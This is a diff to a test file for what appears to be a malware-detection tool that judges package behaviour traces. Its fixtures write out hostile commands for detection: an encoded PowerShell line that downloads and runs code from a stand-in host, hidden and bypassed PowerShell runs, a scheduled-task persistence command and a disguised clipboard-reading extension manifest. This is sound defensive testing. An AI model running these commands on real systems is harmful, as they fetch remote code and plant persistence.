@@ -37,6 +37,11 @@ def _http(host, target="/up", method="POST"):
             "http": {"method": method, "target": target, "host": host, "headers": []}}
 
 
+def _written(path, text):
+    return {"path": path, "state": "present", "traced": True, "type": "file", "size": len(text),
+            "head_kind": "text", "head_text": text}
+
+
 AWS = "/root/.aws/credentials"
 DISCORD = "/root/AppData/Roaming/discord/Local Storage/leveldb/000005.ldb"
 
@@ -58,6 +63,23 @@ CONTEXT_EVENTS = {
     "DYN-WINDOWS-PERSISTENCE-ENCODED": ("import", [("commands", _cmd(
         "powershell", "-e", _ps_enc("IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')")))],
                                         [("commands", _cmd("powershell", "-e", _ps_enc("Get-Date")))]),
+    "DYN-POWERSHELL-HIDDEN": ("import", [("commands", _cmd(
+        "powershell.exe", "-NoProfile", "-ExecutionPolicy", "Bypass", "-WindowStyle", "Hidden", "-File",
+        "C:\\Users\\x\\AppData\\Local\\Temp\\ab.ps1")), ("commands", _cmd("pwsh", "-w", "1", "-c", "x")),
+        ("commands", _cmd("powershell", "-ep", "bypass", "-c", "x"))],
+                              [("commands", _cmd("powershell", "-NoProfile", "-Command",
+                                                 "Get-ItemProperty HKCU:\\Software\\hidden -Name WindowStyle")),
+                               ("commands", _cmd("powershell", "-ExecutionPolicy", "RemoteSigned", "-File", "build.ps1"))]),
+    "DYN-BROWSER-EXTENSION-DROP": ("install", [("written_files", _written(
+        "/root/AppData/Roaming\\Extension\\manifest.json",
+        '{"name": "Windows","background": {"scripts": ["background.js"]},"version": "1","manifest_version": 2,'
+        '"permissions": ["clipboardWrite", "clipboardRead"]}'))],
+                                   # a web app's manifest, and an extension inside the installed package
+                                   [("written_files", _written("/root/app/static/manifest.json",
+                                                               '{"name": "Docs", "start_url": "/", "display": "standalone"}')),
+                                    ("written_files", _written(
+                                        "/home/alex/.venv/lib/python3.11/site-packages/ext/manifest.json",
+                                        '{"manifest_version": 3, "name": "helper"}'))]),
     "DYN-BAIT-SENT-TO-ARGUMENT": ("execute", [("network", {
         "kind": "tcp", "dst": "198.18.0.9", "port": 80, "hostname": "hooks.example.com",
         "http": {"method": "POST", "target": "/", "host": "hooks.example.com", "headers": [],
@@ -248,3 +270,50 @@ def test_a_script_written_where_a_folder_was_is_not_a_folder():
     touched = ("files", {"path": path, "read": False, "write": True, "delete": False, "ops": ["chmod"]})
     v = judge(_with([mkdir, touched, chmod], "install"), suppressions=[])
     assert "DYN-DROP-EXECUTABLE" not in v["rules_fired"]
+
+
+def test_windows_tools_run_where_the_code_was_told_it_runs_on_windows_are_judged_by_what_they_do():
+    # in the windows world (dynamic/worlds.py) Windows code calls Windows' tools: `cmd /c ver`,
+    # a powershell query, are what such code does (the benign look-alike) ...
+    plain = [("commands", _cmd("cmd", "/c", "ver")),
+             ("commands", _cmd("powershell", "-NoProfile", "-Command", "(Get-Item .).FullName"))]
+    v = judge(_with(plain, "import", world="windows"), suppressions=[])
+    assert v["label"] == "benign", v["findings"]
+    # ... the same calls in the base world, where the code was told the truth (Linux), are not
+    assert {"DYN-WINDOWS-TOOL", "DYN-DOWNLOADER"} <= set(judge(_with(plain, "import"), suppressions=[])["rules_fired"])
+    # and what a tool is asked to do still counts in the windows world: hidden, encoded, persistent
+    bad = [("commands", _cmd("powershell.exe", "-WindowStyle", "Hidden", "-ExecutionPolicy", "Bypass", "-File",
+                             "C:\\Temp\\ab.ps1")),
+           ("commands", _cmd("powershell", "-e", _ps_enc("IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')"))),
+           ("commands", _cmd("schtasks", "/create", "/tn", "U", "/tr", "C:\\u.exe", "/sc", "onlogon"))]
+    v = judge(_with(bad, "import", world="windows"), suppressions=[])
+    assert {"DYN-POWERSHELL-HIDDEN", "DYN-POWERSHELL-ENCODED", "DYN-WINDOWS-PERSISTENCE"} <= set(v["rules_fired"])
+    assert v["label"] == "malicious"
+    assert {f["evidence"].get("world") for f in v["findings"] if f["source"] == "dynamic"} == {"windows"}
+
+
+def test_an_extension_a_helper_builds_when_called_is_not_a_drop():
+    # selenium-style proxy-auth helpers write manifest.json + background.js when their function runs
+    helper = _written("/tmp/proxy_auth_plugin/manifest.json",
+                      '{"version": "1.0.0", "manifest_version": 2, "name": "Chrome Proxy", "permissions": ["proxy"]}')
+    v = judge(_with([("written_files", helper)], "execute"), suppressions=[])
+    assert "DYN-BROWSER-EXTENSION-DROP" not in v["rules_fired"] and v["label"] == "benign", v["findings"]
+
+
+def test_a_world_ended_by_the_runs_budget_is_a_flood_only_when_it_logged_more_than_its_base():
+    def judged(world_bytes: int, budget: str = "run") -> set[str]:
+        docs = _with([], "execute", world="later")
+        dyn = docs["report"]["dynamic"]
+        dyn["phases"].setdefault("execute", copy.deepcopy(dyn["phases"]["import"]))["trace_bytes"] = 30 << 20
+        dyn["worlds"]["later"]["phases"]["execute"].update(limit="trace", trace_budget=budget,
+                                                            trace_bytes=world_bytes,
+                                                            left_running=[{"pid": 9, "ppid": 1, "name": "python3"}])
+        return set(judge(docs, suppressions=[])["rules_fired"])
+    # a big package looked at in several worlds: the run spent its budget, the world did not flood,
+    # and what was running when pkgtrace cut the phase was not left running by the package
+    assert not {"DYN-TRACE-FLOOD", "DYN-LEFT-RUNNING"} & judged(27 << 20)
+    assert "DYN-TRACE-FLOOD" not in judged(0)  # not started at all
+    # the world logged more than the base did (what only it shows, made into a flood), or ran
+    # into its own phase's budget: a flood
+    assert {"DYN-TRACE-FLOOD", "DYN-LEFT-RUNNING"} <= judged(60 << 20)
+    assert {"DYN-TRACE-FLOOD", "DYN-LEFT-RUNNING"} <= judged(20 << 20, budget="phase")
